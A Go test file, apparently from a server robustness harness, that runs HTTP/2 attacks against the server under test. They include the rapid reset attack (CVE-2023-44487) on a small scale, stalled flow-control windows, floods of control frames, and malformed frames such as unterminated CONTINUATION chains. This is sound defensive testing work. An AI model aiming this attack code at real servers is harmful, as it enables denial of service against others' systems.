package hostiletest

import (
	"bytes"
	"context"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// http2s are attacks over HTTP/2.
var http2s = []Attack{
	{"HTTP/2: several pages at once", severalAtOnce},
	{"HTTP/2: one of them is reset", resetOfOne},
	{"HTTP/2: rapid reset", rapidReset},
	{"HTTP/2: closed window", closedWindow},
	{"HTTP/2: needless frames", needlessFrames},
	{"HTTP/2: bad frames", badFrames},
}

// severalAtOnce fetches pages over one connection.
func severalAtOnce(v *Assault) { v.together(2+v.IntN(4), 0) }

// resetOfOne leaves some pages of a connection. The others are untouched.
func resetOfOne(v *Assault) { v.together(2+v.IntN(3), 1+v.IntN(3)) }

// together fetches n pages at once and leaves as many others.
func (v *Assault) together(n, left int) {
	var p http.Protocols
	p.SetUnencryptedHTTP2(true)
	tr := &http.Transport{Protocols: &p, DisableCompression: true}
	defer tr.CloseIdleConnections()
	var all sync.WaitGroup
	for i := range n + left {
		t, token := v.Page()
		leave := v.Upto(100 * time.Millisecond)
		headers := v.headers()
		all.Go(func() {
			ctx := v.ctx
			if i >= n {
				var cancel context.CancelFunc
				ctx, cancel = context.WithTimeout(ctx, leave)
				defer cancel()
			}
			req, err := http.NewRequestWithContext(ctx, t.Method, "http://"+v.Site.Server.Addr+t.URI, nil)
			if err != nil {
				return // hostile beyond what a client can send
			}
			for line := range strings.SplitSeq(headers, "\r\n") {
				if name, value, ok := strings.Cut(line, ": "); ok && name != "Connection" && name != "Upgrade" {
					req.Header.Set(name, value)
				}
			}
			res, err := tr.RoundTrip(req)
			if err != nil {
				v.refused()
				return
			}
			a := v.finish(res)
			v.Judge(t, a, token)
		})
	}
	all.Wait()
}

// A framed connection speaks HTTP/2 frame by frame.
type framed struct {
	*http2.Framer
	conn *net.TCPConn
	head *hpack.Encoder
	buf  bytes.Buffer
	next uint32
}

// framed opens one, with settings, and reads what comes in the background until
// the connection ends.
func (v *Assault) framed(settings ...http2.Setting) *framed {
	c := v.Dial()
	if c == nil {
		return nil
	}
	f := &framed{Framer: http2.NewFramer(c, nil), conn: c, next: 1}
	f.head = hpack.NewEncoder(&f.buf)
	_, _ = io.WriteString(c, http2.ClientPreface)
	_ = f.WriteSettings(settings...)
	return f
}

// ask begins a request and returns the number of its stream.
func (f *framed) ask(t Target) uint32 {
	f.buf.Reset()
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "x"}, {":path", t.URI}} {
		_ = f.head.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	id := f.next
	f.next += 2
	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.buf.Bytes(), EndStream: true, EndHeaders: true})
	return id
}

// drain throws away what the server sends, for a while.
func (f *framed) drain(d time.Duration) {
	_ = f.conn.SetReadDeadline(time.Now().Add(d))
	_, _ = io.Copy(io.Discard, io.LimitReader(f.conn, largest))
}

// rapidReset is CVE-2023-44487, on a small scale.
func rapidReset(v *Assault) {
	f := v.framed()
	if f == nil {
		return
	}
	defer Reset(f.conn)
	for range 20 + v.IntN(60) {
		t, _ := v.Page()
		if f.WriteRSTStream(f.ask(t), http2.ErrCodeCancel) != nil {
			return
		}
	}
	f.drain(v.Upto(200 * time.Millisecond))
}

// closedWindow has pages made that it does not take.
func closedWindow(v *Assault) {
	f := v.framed(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(v.IntN(3) * 10)})
	if f == nil {
		return
	}
	defer Reset(f.conn)
	for range 1 + v.IntN(4) {
		t, _ := v.Target()
		f.ask(t)
	}
	f.drain(v.Upto(2500 * time.Millisecond))
}

// needlessFrames are right and want an answer each, or are to be kept.
func needlessFrames(v *Assault) {
	f := v.framed()
	if f == nil {
		return
	}
	defer Reset(f.conn)
	t, _ := v.Page()
	id := f.ask(t)
	for range 50 + v.IntN(300) {
		var err error
		switch v.IntN(4) {
		case 0:
			err = f.WritePing(false, [8]byte{1})
		case 1:
			err = f.WriteSettings()
		case 2:
			err = f.WriteWindowUpdate(0, 1)
		default:
			err = f.WritePriority(id, http2.PriorityParam{StreamDep: 0, Weight: uint8(v.IntN(256))})
		}
		if err != nil {
			return
		}
	}
	f.drain(v.Upto(200 * time.Millisecond))
}

// badFrames break the protocol.
func badFrames(v *Assault) {
	f := v.framed()
	if f == nil {
		return
	}
	defer Reset(f.conn)
	t, _ := v.Page()
	id := f.ask(t)
	f.AllowIllegalWrites = true
	switch v.IntN(8) {
	case 0:
		_ = f.WriteContinuation(id, true, []byte("x"))
	case 1:
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next, BlockFragment: []byte{0xff, 0xff, 0xff}, EndHeaders: true})
	case 2:
		_ = f.WriteWindowUpdate(id, 1<<31-1)
		_ = f.WriteWindowUpdate(id, 1<<31-1)
	case 3:
		_ = f.WriteData(id, true, []byte("after the end"))
	case 4:
		_ = f.WriteData(0, true, []byte("x"))
	case 5:
		_ = f.WriteRawFrame(http2.FrameType(v.IntN(256)), http2.Flags(v.IntN(256)), id, make([]byte, v.IntN(1000)))
	case 6: // a head without an end, in many pieces
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next, BlockFragment: []byte{0x82}})
		for range v.IntN(100) {
			if f.WriteContinuation(f.next, false, []byte{0x84}) != nil {
				return
			}
		}
	default:
		_ = f.WriteGoAway(id, http2.ErrCodeEnhanceYourCalm, []byte(Mark))
	}
	f.drain(v.Upto(300 * time.Millisecond))
}
